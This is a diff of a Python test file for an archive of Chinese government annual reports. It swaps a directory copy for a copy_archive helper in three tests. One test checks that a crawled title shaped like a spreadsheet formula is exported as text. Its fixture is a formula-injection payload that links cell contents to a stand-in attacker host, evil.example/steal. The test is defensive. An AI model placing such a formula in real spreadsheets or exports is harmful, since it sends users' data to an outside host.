@@ -18,7 +18,7 @@ from openpyxl import load_workbook
 
 from archive.charts import agency_chart
 
-from .conftest import EXPECTED, REAL, nianbao
+from .conftest import EXPECTED, REAL, copy_archive, nianbao
 from .test_datasette import get
 
 PINGTAN = REAL / "docs" / "pingtan_2021.txt"
@@ -29,7 +29,7 @@ LUOJIANG_2023 = {e["agency"] for e in EXPECTED if "洛江区" in e["agency"] and
 def with_pingtan(crawled, tmp_path_factory):
     """The crawled archive plus a real report whose table four is not read."""
     data = tmp_path_factory.mktemp("gaps") / "archive"
-    shutil.copytree(crawled["data"], data)
+    copy_archive(crawled["data"], data)
     nianbao("import", "--data", data, PINGTAN)
     (report_id,) = sqlite3.connect(data / "nianbao.db").execute(
         "SELECT r.id FROM reports r JOIN agencies a ON a.id = r.agency_id WHERE a.name LIKE '平潭%'").fetchone()
@@ -200,7 +200,7 @@ def test_home_explains_what_a_report_is_and_where_to_start(crawled):
 
 def test_a_crawled_title_that_looks_like_a_formula_stays_text(crawled, tmp_path):
     data = tmp_path / "archive"
-    shutil.copytree(crawled["data"], data)
+    copy_archive(crawled["data"], data)
     conn = sqlite3.connect(data / "nianbao.db")
     hostile = '=HYPERLINK("http://evil.example/steal?"&A2,"点击")'
     with conn:
@@ -221,7 +221,7 @@ def test_a_revisions_cell_diff_names_the_cell_as_the_form_does(crawled, tmp_path
     from .test_browser import revise
 
     data = tmp_path / "archive"
-    shutil.copytree(crawled["data"], data)
+    copy_archive(crawled["data"], data)
     revise(data, tmp_path)
     (report_id,) = sqlite3.connect(data / "nianbao.db").execute(
         "SELECT r.id FROM reports r JOIN agencies a ON a.id = r.agency_id "
